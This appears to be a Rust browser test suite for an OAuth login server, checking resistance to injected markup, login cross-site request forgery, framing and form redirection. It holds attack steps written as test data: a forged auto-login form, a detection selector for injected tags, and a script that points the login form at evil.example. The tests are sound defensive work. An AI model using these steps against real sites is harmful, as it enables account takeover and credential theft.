//! Attacks by other sites and hostile texts on login, registration and consent, in a real browser.

use serde_json::json;
use url::form_urlencoded;

use crate::{
    harness::{
        PASSWORD, TestApp,
        browser::Browser,
        browser_session::{BrowserSession, hidden},
        callback::{BACK, Callback},
        driver::FOREIGN_HOST,
        other_origin::OtherOrigin,
        relying_party::{CHALLENGE, RelyingParty},
        stories_on,
        test_env::Client,
    },
    page_attacks::HOSTILE,
};

const NAME: &str = "Username or email address";

/// A client with this name that gets its codes at a site of its own.
async fn client(signet: &TestApp, name: &str, app: &Callback, more: &[&str]) -> Client {
    let options = ["--name", name, "--redirect-uri", &app.url, "--grant", "authorization_code", "--scope", "openid"];
    signet.registers_client(&[&options[..], more].concat()).await
}

/// The address of a request, with these parameters besides.
fn link(signet: &TestApp, client: &Client, app: &Callback, more: &[(&str, &str)]) -> String {
    let usual = [
        ("response_type", "code"),
        ("client_id", client.id.as_str()),
        ("redirect_uri", &app.url),
        ("code_challenge", CHALLENGE),
        ("code_challenge_method", "S256"),
    ];
    let query = form_urlencoded::Serializer::new(String::new()).extend_pairs(usual).extend_pairs(more).finish();
    format!("{}/oauth/authorize?{query}", signet.issuer)
}

async fn logs_in(browser: &Browser, username: &str, password: &str) {
    browser.types(NAME, username).await;
    browser.types("Password", password).await;
    browser.presses("Log in").await;
}

/// Nothing that was typed, linked or registered has become a part of the page.
async fn is_harmless(browser: &Browser, what: &str) {
    let title = browser.title().await;
    assert!(title.ends_with(" · Signet"), "{what}: {title}");
    assert!(!browser.has("script, svg, iframe, img[src=x], b, [onfocus], [onerror]").await, "{what}");
    let complaints = browser.complaints().await;
    assert!(complaints.is_empty(), "only the policy stopped {what}: {complaints:?}");
}

async fn whatever_a_request_says_is_text(signet: TestApp) {
    let app = Callback::serves().await;
    let plain = client(&signet, "Lighthouse", &app, &["--first-party"]).await;
    signet.registers("ada").await;
    let browser = Browser::open().await;
    // Every parameter, known or not, in the address of each page; those that hide the others apart from them.
    let names = [
        "client_id redirect_uri response_type response_mode state scope resource nonce code_challenge prompt max_age \
         code_challenge_method login_hint id_token_hint idp_hint return_to username email error alert present",
        "request resume request_uri posted",
    ];
    for text in HOSTILE {
        for names in names {
            let pairs = names.split_whitespace().map(|name| (name, text));
            let query = form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish();
            for path in ["/oauth/authorize", "/login", "/register", "/consent"] {
                browser.visits(&format!("{}{path}?{query}", signet.issuer)).await;
                is_harmless(&browser, &format!("{path}: {text}")).await;
            }
        }
        let hint: String = text.chars().filter(|c| !c.is_control()).collect();
        browser.visits(&link(&signet, &plain, &app, &[("login_hint", &hint)])).await;
        browser.sees("to go on to Lighthouse").await;
        assert_eq!(browser.value(NAME).await, hint);
        is_harmless(&browser, text).await;
    }
    browser.closes().await;
}

async fn whatever_is_typed_or_registered_is_text(signet: TestApp) {
    let app = Callback::serves().await;
    let browser = Browser::open().await;
    for (n, text) in HOSTILE.into_iter().enumerate() {
        browser.forgets_cookies_of(&signet.issuer).await;
        browser.visits(&format!("{}/login", signet.issuer)).await;
        logs_in(&browser, text, text).await;
        browser.sees("The name or the password is wrong.").await;
        assert_eq!(browser.value(NAME).await, text);
        assert_eq!(browser.value("Password").await, "", "a password is never sent back");
        is_harmless(&browser, text).await;

        browser.visits(&format!("{}/register", signet.issuer)).await;
        browser.types("Username", text).await;
        browser.types("Password", PASSWORD).await;
        browser.presses("Create the account").await;
        browser.hears_at("Username", "The username").await;
        is_harmless(&browser, text).await;

        // The name of a client stands on three pages; its answer brings back what it said, as it said it.
        if text.contains('\u{202e}') {
            // No client has such a name.
            continue;
        }
        let hostile = client(&signet, text, &app, &[]).await;
        let username = format!("ada{n}");
        signet.registers(&username).await;
        browser.forgets_cookies().await;
        browser.visits(&link(&signet, &hostile, &app, &[("state", text), ("response_mode", "form_post")])).await;
        browser.sees("to go on to").await;
        is_harmless(&browser, text).await;
        logs_in(&browser, &username, PASSWORD).await;
        browser.sees("asks to use your account").await;
        is_harmless(&browser, text).await;
        browser.presses("Allow").await;
        browser.sees(BACK).await;
        assert_eq!(app.brought("state"), text);
        assert_eq!(app.brought("iss"), signet.issuer);
    }
    browser.closes().await;
}

/// An attacker has a form of the login page, for the victim's browser to send as the attacker.
async fn another_site_logs_nobody_in(signet: TestApp) {
    signet.registers("eve").await;
    let attacker = BrowserSession::at(&signet);
    let page = attacker.opens("/login").await.is(200);
    let inputs = hidden(&page.text(), "/login");
    let inputs = inputs.iter().map(|(name, value)| format!("<input name={name} value=\"{value}\">"));
    let form = format!(
        "<!doctype html><title>Win</title><form method=post action=\"{}/login\">{}<input name=username value=eve>\
         <input name=password value=\"{PASSWORD}\"><button>You win</button></form>",
        signet.issuer,
        inputs.collect::<String>()
    );
    let other_origin = OtherOrigin::serves(form).await;
    let browser = Browser::open().await;
    browser.visits(&format!("{}/login", signet.issuer)).await;
    for host in [FOREIGN_HOST, "localhost", "127.0.0.1"] {
        browser.visits(&other_origin.at(host)).await;
        browser.presses("You win").await;
        browser.sees("This form came from elsewhere").await;
        assert!(browser.cookies().await.iter().all(|cookie| !cookie.name().ends_with("session")), "{host}");
    }
    browser.closes().await;
}

async fn no_other_site_frames_a_log_in(signet: TestApp) {
    let app = Callback::serves().await;
    let third = client(&signet, "Lighthouse", &app, &[]).await;
    let ada = signet.registers("ada").await;
    let browser = Browser::open().await;
    browser.visits(&link(&signet, &third, &app, &[])).await;
    logs_in(&browser, "ada", &ada.password).await;
    browser.sees("Allow Lighthouse?").await;
    let consent = browser.url().await.to_string();
    for page in [format!("{}/login?return_to=/x", signet.issuer), format!("{}/register", signet.issuer), consent] {
        let frame = format!("<!doctype html><title>Frame</title><iframe src=\"{page}\" width=800 height=600></iframe>");
        let other_origin = OtherOrigin::serves(frame).await;
        for host in [FOREIGN_HOST, "127.0.0.1"] {
            browser.visits(&other_origin.at(host)).await;
            let shown = browser.text_in_frame().await;
            assert!(!shown.contains("Signet") && !shown.contains("Lighthouse"), "{page} is shown: {shown}");
            browser.complaints().await;
        }
    }
    browser.closes().await;
}

/// The policy of the pages lets a form lead to the client that asked, and nowhere else.
async fn a_form_leads_to_its_client_and_nowhere_else(signet: TestApp) {
    let app = RelyingParty::registers_first_party(&signet).await;
    signet.registers("ada").await;
    let browser = Browser::open().await;
    browser.visits(&format!("{}{}", signet.issuer, app.link(&[]))).await;
    browser.sees("to go on to Lighthouse").await;
    let script = "document.forms[0].action = arguments[0]; document.forms[0].submit()";
    browser.runs(script, vec![json!("https://evil.example/")]).await;
    let complaints = browser.complaints().await;
    assert!(complaints.iter().any(|line| line.contains("form-action")), "{complaints:?}");
    browser.is_at("/login").await;
    browser.closes().await;
}

stories_on![Sqlite:
    whatever_a_request_says_is_text,
    whatever_is_typed_or_registered_is_text,
    another_site_logs_nobody_in,
    no_other_site_frames_a_log_in,
    a_form_leads_to_its_client_and_nowhere_else,
];
